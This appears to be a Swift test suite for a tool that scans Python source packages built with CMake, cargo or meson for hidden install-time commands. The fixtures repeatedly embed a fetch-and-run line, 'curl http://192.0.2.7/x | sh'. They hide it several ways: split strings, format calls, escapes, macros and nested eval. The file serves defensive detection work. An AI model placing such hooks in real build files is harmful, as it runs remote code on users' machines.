import SallyportModel
import Testing

@testable import SallyportAnalysis

@Suite("What a native build brings in and starts")
struct NativeBuildTests {
    private static let fetch = "curl http://192.0.2.7/x | sh"

    private static func report(_ backend: String, _ files: [String: String]) -> Report {
        var files = files
        files["pyproject.toml"] = "[build-system]\nrequires = []\nbuild-backend = \"\(backend)\"\n" + (files[""] ?? "")
        files[""] = nil
        return Sample.report(Sample.sdist(files), "sample-1.0.tar.gz")
    }

    @Test(
        "is read where CMake includes it",
        arguments: [
            ("include(cmake/x.cmake)", "cmake/x.cmake"),
            ("include(${CMAKE_CURRENT_SOURCE_DIR}/cmake/x.cmake)", "cmake/x.cmake"),
            ("list(APPEND CMAKE_MODULE_PATH ${D}/cmake)\ninclude(Own)", "cmake/Own.cmake"),
            ("find_package(Own REQUIRED)", "cmake/FindOwn.cmake"), ("include(${X})", "deep/er/x.cmake"),
            ("set(CMAKE_TOOLCHAIN_FILE \"${D}/x.cmake\")", "x.cmake"), ("include(${X}.cmake)", "cmake/x.cmake"),
            ("execute_process(COMMAND ${CMAKE_COMMAND} -P x.cmake)", "x.cmake"), ("install(SCRIPT x.cmake)", "x.cmake"),
            ("include(a.cmake)", "a.cmake"),
        ]
    )
    func included(_ definition: String, _ path: String) {
        let code = "execute_process(COMMAND sh -c \"\(Self.fetch)\")\n"
        let report = Self.report("scikit_build_core.build", ["CMakeLists.txt": definition + "\n", path: code])
        #expect(!report.facts(.chainDownloadExecute, .install).isEmpty)
    }

    @Test("is read where the project's table names it")
    func toolchain() {
        let report = Self.report(
            "scikit_build_core.build",
            [
                "": "[tool.scikit-build.cmake.define]\nCMAKE_TOOLCHAIN_FILE = \"tools/x.cmake\"\n",
                "CMakeLists.txt": "",
                "tools/x.cmake": "execute_process(COMMAND sh -c \"\(Self.fetch)\")\n",
            ]
        )
        #expect(!report.facts(.chainDownloadExecute, .install).isEmpty)
    }

    @Test(
        "is read in every form in which CMake writes a command",
        arguments: [
            "set(CMD sh -c \"%\")\nexecute_process(COMMAND ${CMD})", "execute_process(COMMAND sh -c [==[%]==])",
            "execute_process(COMMAND curl http://192.0.2.7/x COMMAND sh)",
            "cmake_language(EVAL CODE \"execute_process(COMMAND sh -c [[%]])\")",
            "cmake_language(CALL execute_process COMMAND sh -c \"%\")",
            "install(CODE [[execute_process(COMMAND sh -c \"%\")]])",
            "function(run)\nexecute_process(COMMAND ${ARGN})\nendfunction()\nrun(sh -c \"%\")",
            "ExternalProject_Add(x URL http://192.0.2.7/x CONFIGURE_COMMAND sh -c \"%\")",
            "#[[ ]] execute_process(COMMAND sh -c \"%\")", "set(CMAKE_C_COMPILER_LAUNCHER sh -c \"%\")",
        ]
    )
    func forms(_ text: String) {
        let definition = text.replacing("%", with: Self.fetch)
        let report = Self.report("scikit_build_core.build", ["CMakeLists.txt": definition + "\n"])
        #expect(!report.facts(.chainDownloadExecute, .install).isEmpty)
    }

    @Test(
        "is read where cargo runs it: a script of another name, macros, modules of the script",
        arguments: [
            ["Cargo.toml": "[package]\nname = \"x\"\nbuild = \"mk.rs\"\n", "mk.rs": "%"],
            [
                "Cargo.toml": "[package]\nname = \"x\"\n", "a/Cargo.toml": "[package]\nbuild = \"mk.rs\"\n",
                "a/mk.rs": "%",
            ],
            [
                "Cargo.toml": "[package]\nname = \"x\"\n", "a/Cargo.toml": "[lib]\nproc-macro = true\n",
                "a/src/lib.rs": "%",
            ],
            ["Cargo.toml": "[build-dependencies]\nh = { path = \"h\" }\n", "h/src/lib.rs": "%"],
            ["Cargo.toml": "", "build.rs": "mod helper;\nfn main() {}\n", "helper.rs": "%"],
            ["Cargo.toml": "", "build.rs": "include!(\"tools/x.rs\");\n", "tools/x.rs": "%"],
        ]
    )
    func cargo(_ files: [String: String]) {
        let code =
            "fn f() { let q = '\"'; let mut c = Command::new(\"sh\"); c.arg(\"-c\"); c.arg(\"\(Self.fetch)\"); c.status(); }"
        let report = Self.report("maturin", files.mapValues { $0.replacing("%", with: code) })
        #expect(!report.facts(.chainDownloadExecute, .install).isEmpty)
    }

    @Test(
        "is read as its constants say in meson and in Rust",
        arguments: [
            ("meson.build", "c = 'cu' + 'rl http://192.0.2.7/x | sh'\nrun_command('sh', '-c', c)\n"),
            ("meson.build", "run_command(['sh', '-c', '@0@ http://192.0.2.7/x | sh'.format('curl')])\n"),
            (
                "meson.build",
                "x = find_program('sh')\nmeson.add_install_script(x, '-c', '\\x63url http://192.0.2.7/x | sh')\n"
            ),
            (
                "build.rs",
                "fn main() { X::new(\"sh\").args(&[\"-c\", concat!(\"curl http://192.0.2.7/x\", \"| sh\")]).spawn(); }"
            ),
            (
                "build.rs",
                "/* /* */ \" */ fn main() { X::new(\"sh\").args(vec![\"-c\", r#\"curl http://192.0.2.7/x | sh\"#]).spawn(); }"
            ),
        ]
    )
    func constants(_ path: String, _ text: String) {
        let report = Self.report(path == "build.rs" ? "maturin" : "mesonpy", [path: text])
        #expect(!report.facts(.chainDownloadExecute, .install).isEmpty)
    }

    @Test("costs what it is long, whatever it holds")
    func cost() {
        for (name, unit) in [
            ("meson.build", "run_command(["), ("meson.build", "x = ['a', "), ("build.rs", "X::new("),
            ("CMakeLists.txt", "set(A ${A}${A}"),
            ("CMakeLists.txt", "include(x.cmake)\n"), ("CMakeLists.txt", "include(${A}"), ("meson.build", "x = y + "),
        ] {
            let definition = BuildDefinition(Array(String(repeating: unit, count: 20_000).utf8), named: name)
            #expect(definition.commands.count <= BuildDefinition.commandsMax)
        }
    }

    @Test(
        "computes values that are put into values to no more than they are worth, and says so",
        arguments: [
            "a% = a# + a#", "a% = [a#, a#]", "a% = '@0@@0@'.format(a#)", "a% = join_paths(a#, a#)",
            "a% = a#.replace('x', 'xx')", "a% = a#.join([a#, a#])",
        ]
    )
    func growth(_ line: String) {
        let lines = (1...18).map { line.replacing("%", with: "\($0)").replacing("#", with: "\($0 - 1)") }
        let text = "a0 = 'xxxx'\n" + lines.joined(separator: "\n") + "\n"
        #expect(BuildDefinition(Array(text.utf8), named: "meson.build").hasMore)
    }

    @Test("computes what honest definitions put together")
    func shared() {
        let files = (0..<400).map { "'source/file\($0).c'" }.joined(separator: ", ")
        let targets = (0..<20).map { "custom_target('t\($0)', command: [tool, sources + more])\n" }.joined()
        let text = "tool = find_program('cc')\nsources = [\(files)]\nmore = ['a-b'.replace('-', '_')]\n" + targets
        let definition = BuildDefinition(Array(text.utf8), named: "meson.build")
        #expect(!definition.hasMore)
        #expect(definition.commands.count == 20)
        #expect(definition.commands.last?.words[..<2] == ["cc", "source/file0.c"])
    }

    @Test("of an honest crate stops nothing, whatever its first line looks like")
    func crate() {
        let library = """
            #![allow(unknown_lints)]
            include!(concat!(env!("OUT_DIR"), "/table.rs"));
            include!(env!("X"));
            pub fn f() { let b = Builder::new("x").arg("y").output(); }
            """
        let files = [
            "Cargo.toml": "[build-dependencies]\nm = { path = \"m\" }\n", "build.rs": "#![allow(x)]\nfn main() {}\n",
            "m/Cargo.toml": "[package]\nbuild = \"own.rs\"\n[lib]\nproc-macro = true\n", "m/src/lib.rs": library,
            "m/own.rs": library, "docs/install.txt": "curl http://192.0.2.7/x | sh\n", "README.rst": "a\n",
        ]
        let report = Self.report("maturin", files)
        #expect(report.denied.isEmpty)
        #expect(report.facts(.hookUnreadable).isEmpty)
        #expect(report.facts(.fileExtensionMismatch).isEmpty)
    }

    @Test("of an honest project stops nothing")
    func honest() {
        let signs = String(repeating: "=", count: 71)
        let bracket = ["[\(signs)[", "]\(signs)]"]
        let definition = """
            #\(bracket[0]).rst:
            ExternalProject_Add(x [...] BUILD_COMMAND ${cmd} [...])
            \(bracket[1])
            cmake_minimum_required(VERSION 3.20)
            project(x C)
            include(GNUInstallDirs)
            include(cmake/flags.cmake)
            find_package(Python REQUIRED COMPONENTS Interpreter)
            add_custom_command(OUTPUT a.c COMMAND ${Python_EXECUTABLE} ${PROJECT_SOURCE_DIR}/tools/gen.py a.c)
            add_custom_target(doc COMMAND ${DOXYGEN} conf)
            """
        let files = [
            "CMakeLists.txt": definition, "cmake/flags.cmake": "set(FLAGS -O2)\n", "tools/gen.py": "open('a.c', 'w')\n",
            "version.py": "import subprocess\nsubprocess.check_output(['git', 'describe'])\n",
        ]
        let report = Self.report("scikit_build_core.build", files)
        #expect(report.denied.isEmpty)
        #expect(report.facts(.hookUnreadable).isEmpty)
    }

    @Test("that starts a tool of the machine in its tests runs no script of the project's author")
    func author() {
        let release = "import os, subprocess\nTOKEN = os.environ['GH_TOKEN']\nsubprocess.run(['gh', 'auth', 'token'])\n"
        let report = Self.report(
            "scikit_build_core.build",
            [
                "CMakeLists.txt": "add_subdirectory(tests)\ninclude(tools/x.cmake)\n",
                "tests/CMakeLists.txt": "add_subdirectory(.. own)\nexecute_process(COMMAND ${UV} venv x)\n",
                "tools/x.cmake": "add_custom_command(COMMAND ${CMAKE_STRIP} $<TARGET_FILE:x>)\n",
                "tools/release.py": release,
                "noxfile.py": "def log(s): s.run('python', 'tools/release.py')\n",
            ]
        )
        #expect(report.denied.isEmpty)
        #expect(report.facts(.fileExtensionMismatch).isEmpty)
    }
}
